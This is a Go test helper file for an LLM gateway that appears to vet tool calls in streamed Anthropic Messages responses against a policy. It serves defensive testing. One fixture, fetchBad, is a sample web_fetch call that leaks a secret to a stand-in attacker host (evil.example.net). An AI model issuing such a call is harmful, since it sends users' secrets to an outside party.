package messages

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/tidwall/gjson"

	"github.com/promptgate/promptgate/policy/vet"
	"github.com/promptgate/promptgate/proxy/relay/relaytest"
)

// Inputs used across the tests.
const (
	fetchGood   = `{"url":"https://docs.example.com/a"}`
	fetchBad    = `{"url":"https://evil.example.net/?leak=SECRET123"}`
	weatherArgs = `{"city":"Oslo"}`
)

// policy is the checker most tests use: web_fetch may only fetch the docs site.
func checkerFor(mode vet.Mode, atomic bool) *vet.Checker { return relaytest.Policy(mode, atomic) }

func jstr(s string) string { return relaytest.JSONString(s) }

func itoa(i int) string {
	b, _ := json.Marshal(i)
	return string(b)
}

func splitRunes(s string, n int) []string { return relaytest.SplitRunes(s, n) }

// as builds a Messages stream the way Anthropic sends it.
type as struct{ evs []string }

// ev adds one event: data is a JSON object without type ("{}" for none).
func (a *as) ev(typ, data string) *as {
	d := `{"type":` + jstr(typ) + `}`
	if data != "{}" {
		d = `{"type":` + jstr(typ) + `,` + strings.TrimPrefix(data, "{")
	}
	a.evs = append(a.evs, "event: "+typ+"\ndata: "+d+"\n\n")
	return a
}

func (a *as) start() *as {
	return a.ev("message_start", `{"message":{"id":"msg_01","type":"message","role":"assistant","content":[],"model":"claude-sonnet-4-5","stop_reason":null,"stop_sequence":null,"usage":{"input_tokens":10,"output_tokens":1}}}`).
		ev("ping", "{}")
}

// text streams a text block at index idx in pieces of n runes.
func (a *as) text(idx int, text string, n int) *as {
	a.ev("content_block_start", `{"index":`+itoa(idx)+`,"content_block":{"type":"text","text":""}}`)
	for _, p := range splitRunes(text, n) {
		a.ev("content_block_delta", `{"index":`+itoa(idx)+`,"delta":{"type":"text_delta","text":`+jstr(p)+`}}`)
	}
	return a.ev("content_block_stop", `{"index":`+itoa(idx)+`}`)
}

// tool streams a tool_use block at index idx, its input in pieces of n runes after an empty first
// one.
func (a *as) tool(idx int, id, name, input string, n int) *as {
	a.ev("content_block_start", `{"index":`+itoa(idx)+`,"content_block":{"type":"tool_use","id":`+jstr(id)+`,"name":`+jstr(name)+`,"input":{}}}`)
	a.ev("content_block_delta", `{"index":`+itoa(idx)+`,"delta":{"type":"input_json_delta","partial_json":""}}`)
	for _, p := range splitRunes(input, n) {
		a.ev("content_block_delta", `{"index":`+itoa(idx)+`,"delta":{"type":"input_json_delta","partial_json":`+jstr(p)+`}}`)
	}
	return a.ev("content_block_stop", `{"index":`+itoa(idx)+`}`)
}

func (a *as) end(stop string) *as {
	return a.ev("message_delta", `{"delta":{"stop_reason":`+jstr(stop)+`,"stop_sequence":null},"usage":{"output_tokens":42}}`).
		ev("message_stop", "{}")
}

func (a *as) String() string { return strings.Join(a.evs, "") }

// cblock is a content block as a client assembles it.
type cblock struct {
	Type, ID, Name, Text, Input string
}

// view is what a client makes of a stream.
type view struct {
	Blocks []cblock
	Stop   string
	Error  string // error.code of an error event
	Done   bool   // message_stop
	After  int    // events after the error or message_stop
}

// assemble reads a stream as the official SDKs do: a block starts at index len(content), deltas and
// stops address an existing index, input_json_delta replaces an input of "{}" or extends it.
func assemble(t testing.TB, out []byte) view {
	t.Helper()
	var v view
	for ev := range relaytest.Events(t, out) {
		if !gjson.ValidBytes(ev.Data) {
			continue
		}
		if v.Done || v.Error != "" {
			v.After++
		}
		d := gjson.ParseBytes(ev.Data)
		typ := d.Get("type").String()
		if ev.Event != typ {
			t.Fatalf("event line %q for data type %q", ev.Event, typ)
		}
		idx := int(d.Get("index").Int())
		switch typ {
		case "error":
			v.Error = d.Get("error.code").String()
		case "message_start":
			for _, b := range d.Get("message.content").Array() {
				v.Blocks = append(v.Blocks, cblock{Type: b.Get("type").String(), ID: b.Get("id").String(), Name: b.Get("name").String(), Text: b.Get("text").String(), Input: b.Get("input").Raw})
			}
		case "content_block_start":
			if idx != len(v.Blocks) {
				t.Fatalf("block starts at index %d, want %d:\n%s", idx, len(v.Blocks), out)
			}
			b := d.Get("content_block")
			v.Blocks = append(v.Blocks, cblock{Type: b.Get("type").String(), ID: b.Get("id").String(), Name: b.Get("name").String(), Text: b.Get("text").String(), Input: b.Get("input").Raw})
		case "content_block_delta":
			if idx < 0 || idx >= len(v.Blocks) {
				t.Fatalf("delta for block %d of %d", idx, len(v.Blocks))
			}
			b := &v.Blocks[idx]
			switch d.Get("delta.type").String() {
			case "text_delta":
				b.Text += d.Get("delta.text").String()
			case "input_json_delta":
				if pj := d.Get("delta.partial_json").String(); pj != "" {
					if b.Input == "{}" {
						b.Input = pj
					} else {
						b.Input += pj
					}
				}
			}
		case "content_block_stop":
			if idx < 0 || idx >= len(v.Blocks) {
				t.Fatalf("stop for block %d of %d", idx, len(v.Blocks))
			}
		case "message_delta":
			v.Stop = d.Get("delta.stop_reason").String()
		case "message_stop":
			v.Done = true
		}
	}
	return v
}

// tools are the tool_use blocks of a view.
func (v view) tools() []cblock {
	var out []cblock
	for _, b := range v.Blocks {
		if b.Type == "tool_use" {
			out = append(out, b)
		}
	}
	return out
}

// text is the text of every text block, joined.
func (v view) text() string {
	var b strings.Builder
	for _, bl := range v.Blocks {
		if bl.Type == "text" {
			b.WriteString(bl.Text)
		}
	}
	return b.String()
}

// runStream pipes input through a Stream and returns the output, the decisions and the count of
// blocked calls. With split > 0 the upstream returns 1..split bytes per Read.
func runStream(t testing.TB, input string, c *vet.Checker, split int, seed uint64) ([]byte, []vet.Decision, int) {
	t.Helper()
	return relaytest.Run(t, input, split, seed, relaytest.Opener(NewStream, c))
}
